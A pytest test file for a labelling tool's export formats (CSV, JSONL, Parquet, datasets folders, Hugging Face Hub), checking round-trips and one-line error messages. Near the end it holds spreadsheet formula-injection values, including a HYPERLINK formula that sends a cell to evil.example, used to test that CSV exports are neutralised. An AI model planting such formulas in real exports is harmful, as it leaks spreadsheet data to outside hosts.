"""An export in each format: what is read back is what was written."""

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import datasets  # type: ignore[import-untyped]
import pyarrow.parquet as pq  # type: ignore[import-untyped]
import pytest

from labelloop.errors import UserError
from labelloop.pool.formulas import looks_like_formula
from labelloop.pool.sources import load
from labelloop.projects.formats import as_text, format_of, formula_cells, read_rows, write_rows
from tests.support.argilla_server import free_port
from tests.support.hub import TOKEN, hub
from tests.support.messages import names, raises_naming

TIME = datetime(2026, 5, 1, 8, 30, 0, 123456, tzinfo=UTC)
HARD = 'She said "no", then\r\nleft;\ta lone \r, a \u2028 and = 1 – ünïcode ✓'
TELLING = """
from labelloop.errors import UserError
from labelloop.projects.formats import read_rows, write_rows
for one in {}:
    try:
        one()
    except UserError as error:
        print(error)
"""
WRITE = "lambda: write_rows([], 'hf://user/labels', 'hub')"
READ = "lambda: read_rows('hf://user/labels')"
OUTPUTS = ["labels.jsonl", "labels.csv", "labels.parquet", "labels/"]


def row(item: int, **changed: Any) -> dict[str, Any]:
    """A row that nobody voted on, and no model picked."""
    plain: dict[str, Any] = {
        "text": f"text {item}",
        "label": None,
        "labels": [],
        "discarded": False,
        "item": item,
        "source_row": item,
        "batch": "0",
        "revision": 0,
        "reason": "cold-start",
        "model": None,
        "predicted": [],
        "probability": None,
        "agreement": None,
        "time": TIME,
        "annotators": [],
        "votes": [],
    }
    return {**plain, **changed}


def vote(name: str, status: str, *labels: str, time: datetime | None = None) -> dict[str, Any]:
    return {"username": name, "status": status, "labels": list(labels), "time": time}


ROWS = [
    row(0, label="1", labels=["1"]),
    row(1, discarded=True, annotators=["ann"], votes=[vote("ann", "discarded", time=TIME)]),
    row(
        2,
        text=HARD,
        label="null",
        labels=["null"],
        batch="relabel-1",
        revision=2,
        reason="relabel",
        model="3",
        predicted=["spam, or ham"],
        probability=0.1 + 0.2,
        agreement=2 / 3,
        time=TIME + timedelta(days=1),
        annotators=["ann", "böb"],
        votes=[vote("ann", "submitted", "null"), vote("böb", "submitted", "true", time=TIME)],
    ),
]


@pytest.mark.parametrize("output", OUTPUTS)
@pytest.mark.parametrize("rows", [ROWS, ROWS[:1], []], ids=["all", "one", "none"])
def test_what_is_read_back_is_what_was_written(tmp_path: Path, output: str, rows: list[Any]) -> None:
    target = f"{tmp_path}/new/{output}"
    write_rows(rows, target, format_of(target))

    assert read_rows(target) == rows


@pytest.mark.parametrize("output", OUTPUTS)
def test_an_export_is_a_data_set_to_begin_a_project_with(tmp_path: Path, output: str) -> None:
    target = f"{tmp_path}/{output}"
    write_rows(ROWS, target, format_of(target))

    table = load(target)

    assert (table.text_column, table.label_column) == ("text", "label")
    assert table.texts == ["text 0", "text 1", HARD]
    assert table.labels == ["1", None, "null"]


@pytest.mark.parametrize("output", OUTPUTS)
def test_what_was_there_is_replaced_and_nothing_else_is_left(tmp_path: Path, output: str) -> None:
    target = f"{tmp_path}/{output}"
    for rows in (ROWS, ROWS[:1]):
        write_rows(rows, target, format_of(target))

    assert read_rows(target) == ROWS[:1]
    assert list(tmp_path.iterdir()) == [Path(target)]


@pytest.mark.parametrize("output", OUTPUTS)
def test_of_a_link_what_it_leads_to_is_replaced(tmp_path: Path, output: str) -> None:
    (tmp_path / "disk").mkdir()
    (tmp_path / "here").mkdir()
    link = tmp_path / "here" / output
    link.symlink_to(tmp_path / "disk" / output)
    for rows in (ROWS, ROWS[:1]):
        write_rows(rows, link, format_of(f"{tmp_path}/{output}"))

    assert link.is_symlink()
    assert read_rows(tmp_path / "disk" / output, format_of(f"{tmp_path}/{output}")) == ROWS[:1]
    assert [*(tmp_path / "here").iterdir(), *(tmp_path / "disk").iterdir()] == [
        link,
        tmp_path / "disk" / output,
    ]


def test_columns_have_types_in_parquet_also_where_all_values_are_missing(tmp_path: Path) -> None:
    write_rows(ROWS[:1], tmp_path / "labels.parquet", "parquet")

    schema = pq.read_schema(tmp_path / "labels.parquet")

    assert str(schema.field("probability").type) == "double"
    assert str(schema.field("model").type) == "string"
    assert str(schema.field("time").type) == "timestamp[us, tz=UTC]"


def test_the_package_datasets_loads_the_folder(tmp_path: Path) -> None:
    write_rows(ROWS, tmp_path / "labels", "datasets")

    found = datasets.load_from_disk(str(tmp_path / "labels"))

    assert found[2]["votes"][1]["username"] == "böb"
    assert found["label"][:] == ["1", None, "null"]


def test_a_folder_with_other_things_is_left_as_it_is(tmp_path: Path) -> None:
    (tmp_path / "thesis.tex").touch()

    with raises_naming(UserError, tmp_path, "--output"):
        write_rows(ROWS, tmp_path, "datasets")
    assert list(tmp_path.iterdir()) == [tmp_path / "thesis.tex"]


@pytest.mark.parametrize("output", OUTPUTS)
def test_where_nothing_can_be_written_it_is_said_in_one_line(tmp_path: Path, output: str) -> None:
    (tmp_path / "file").touch()
    target = f"{tmp_path}/file/{output}"

    with raises_naming(UserError, tmp_path / "file", "--output"):
        write_rows(ROWS, target, format_of(target))


def test_what_is_pushed_to_the_hub_is_read_back_and_private(tmp_path: Path) -> None:
    code = (
        "from labelloop.pool.sources import load\n"
        "from labelloop.projects.formats import read_rows, write_rows\n"
        "from tests.unit.projects.test_formats import ROWS\n"
        "for rows in (ROWS[:1], ROWS):\n"
        "    write_rows(rows, 'hf://user/labels', 'hub')\n"
        "print(read_rows('hf://user/labels') == ROWS, load('user/labels').labels)"
    )
    with hub() as there:
        run = on_hub(code, tmp_path, HF_ENDPOINT=there.url, HF_TOKEN=TOKEN)

        assert (run.stdout, run.stderr) == ("True ['1', None, 'null']\n", "")
        (private, files) = there.datasets["user/labels"]
    assert private
    assert [name for name in files if name.startswith("data/")] == ["data/train-00000-of-00001.parquet"]


@pytest.mark.parametrize("environment", [{"HF_HUB_OFFLINE": "1"}, {"HF_TOKEN": "hf_wrong"}], ids=str)
def test_a_hub_that_refuses_or_is_not_asked_is_told_in_one_line(
    tmp_path: Path, environment: dict[str, str]
) -> None:
    with hub() as there:
        run = on_hub(TELLING.format(f"{WRITE}, {READ}"), tmp_path, HF_ENDPOINT=there.url, **environment)

    assert_told_in_one_line(run, times=2)


def test_a_hub_that_is_away_is_told_in_one_line(tmp_path: Path) -> None:
    away = f"http://127.0.0.1:{free_port()}"

    run = on_hub(TELLING.format(f"{WRITE},"), tmp_path, HF_ENDPOINT=away)

    assert_told_in_one_line(run, times=1)


def assert_told_in_one_line(run: "subprocess.CompletedProcess[str]", times: int) -> None:
    lines = run.stdout.splitlines()
    assert len(lines) == times
    for line in lines:
        assert names(line, "Hub", "user/labels", "hf auth login")


def on_hub(code: str, cache: Path, **environment: str) -> "subprocess.CompletedProcess[str]":
    """Run it in a process of its own: where the Hub is, is decided when its client is imported."""
    basis = {**os.environ, "HF_HOME": str(cache), "HF_HUB_OFFLINE": "0", "HF_HUB_DISABLE_XET": "1"}
    return subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env={**basis, **environment}
    )


@pytest.mark.parametrize(
    ("output", "asked", "kind"),
    [
        ("a.csv", None, "csv"),
        ("a.jsonl", None, "jsonl"),
        ("a.PARQUET", None, "parquet"),
        ("a", "jsonl", "jsonl"),
        ("a/", None, "datasets"),
        ("hf://user/a", None, "hub"),
        ("user/a", "hub", "hub"),
        ("a.txt", "csv", "csv"),
    ],
)
def test_the_format_is_that_of_the_name_unless_asked(output: str, asked: str | None, kind: str) -> None:
    assert format_of(output, asked) == kind


def test_a_folder_that_is_there_is_one_for_datasets(tmp_path: Path) -> None:
    assert format_of(str(tmp_path)) == "datasets"


@pytest.mark.parametrize("output", ["labels.xlsx", "labels"])
def test_an_unknown_ending_or_none_is_an_error(output: str) -> None:
    with raises_naming(UserError, output, "labels.jsonl", "labels.csv", "labels/", "--format"):
        format_of(output)


def test_an_export_without_ending_is_a_data_set_too(tmp_path: Path) -> None:
    write_rows(ROWS, tmp_path / "labels", "jsonl")

    assert load(str(tmp_path / "labels")).labels == ["1", None, "null"]


def test_a_file_is_not_put_on_the_hub() -> None:
    with raises_naming(UserError, "hf://user/a", "--format"):
        format_of("hf://user/a", "csv")


@pytest.mark.parametrize(
    ("name", "content", "facts"),
    [
        ("a.csv", "text,label\r\nhi,ham\r\n", ("labels",)),
        ("a.jsonl", '{"text": "hi"}\n', ("label",)),
        ("a.jsonl", "{nope\n", ()),
        ("a.parquet", "nope", ()),
        ("a.csv", as_text(ROWS, "csv").replace("[]", "[", 1), ()),
    ],
)
def test_a_file_that_is_no_export_is_said_in_one_line(
    tmp_path: Path, name: str, content: str, facts: tuple[str, ...]
) -> None:
    (tmp_path / name).write_text(content, newline="")

    with raises_naming(UserError, tmp_path / name, *facts):
        read_rows(tmp_path / name)


RUN = '=HYPERLINK("http://evil.example/?x="&A1)'
HOSTILE_ROWS = [
    row(0, text=RUN, label="+", labels=["+"], **{"=own": "@SUM(A1)"}),
    row(1, text="-5", label="-5", labels=["-5"], probability=-1e-05, **{"=own": None}),
    row(2, text="x;=1+1", votes=[vote("=ann", "submitted", "+", time=TIME)], **{"=own": "'=1"}),
    row(3, text="\t=1", annotators=["-ann"], **{"=own": "it's fine"}),
    row(4, text="\u200b=1", label="@x", labels=["@x"], annotators=["\ufeff+ann"], **{"=own": " =1"}),
]


def test_a_table_that_is_safe_for_spreadsheets_is_read_back_as_it_was(tmp_path: Path) -> None:
    target = tmp_path / "labels.csv"

    write_rows(HOSTILE_ROWS, target, "csv", safe=True)

    assert formula_cells(HOSTILE_ROWS) == 8
    with target.open(newline="", encoding="utf-8") as file:
        shown = [cell for cells in csv.reader(file) for cell in cells]
    assert [cell for cell in shown if looks_like_formula(cell)] == []
    assert {"-5", "'+"} <= set(shown)
    assert read_rows(target) == HOSTILE_ROWS
    table = load(str(target), keep={"=own": "--keep-columns"})
    assert table.texts == [each["text"] for each in HOSTILE_ROWS]
    assert table.labels == [each["label"] for each in HOSTILE_ROWS]
    assert table.kept_columns["=own"] == [each["=own"] for each in HOSTILE_ROWS]


def test_a_table_is_written_as_it_is_unless_it_is_for_spreadsheets(tmp_path: Path) -> None:
    text = as_text(HOSTILE_ROWS, "csv")

    assert [cells[0] for cells in csv.reader(io.StringIO(text, newline=""))][1:] == [
        each["text"] for each in HOSTILE_ROWS
    ]
